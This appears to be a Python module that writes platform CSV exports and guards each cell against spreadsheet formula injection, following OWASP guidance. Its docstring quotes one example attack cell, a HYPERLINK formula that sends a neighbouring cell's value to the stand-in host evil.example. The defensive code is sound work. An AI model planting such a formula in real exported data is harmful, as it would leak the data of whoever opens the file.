"""Every CSV the platform produces is written here, with each cell neutralised against formula injection.

Model, project and workspace names come from provider accounts, so from whoever controls one: a cell such as
``=HYPERLINK("https://evil.example/?"&A1)`` would run as a formula when an admin opens the export in a spreadsheet.
OWASP's rule (CSV Injection; ASVS 1.2.10): a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage
return, a line feed or NUL gets a leading ``'``, which spreadsheets show as text. A cell that is only a number (a
negative credit such as ``-1.50``) is left alone: it cannot be a formula, and quoting it would turn money into text.

``write_csv`` wraps ``csv.DictWriter``, so a column added later is neutralised without anyone remembering to.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence

_TRIGGERS = frozenset("=+-@\t\r\n\0＝＋－＠")  # the fullwidth forms too: some spreadsheets fold them to ASCII
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?")


def neutralise(cell: str) -> str:
    """``cell`` as a spreadsheet will show it as text, never evaluate it."""
    if cell[:1] in _TRIGGERS and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def write_csv(columns: Sequence[str], rows: Iterable[Mapping[str, object]]) -> str:
    """RFC 4180 CSV (CRLF, quoting as needed) with a header row and every cell neutralised."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\r\n")
    writer.writerow({c: neutralise(c) for c in columns})
    for row in rows:
        writer.writerow({key: neutralise("" if value is None else str(value)) for key, value in row.items()})
    return out.getvalue()
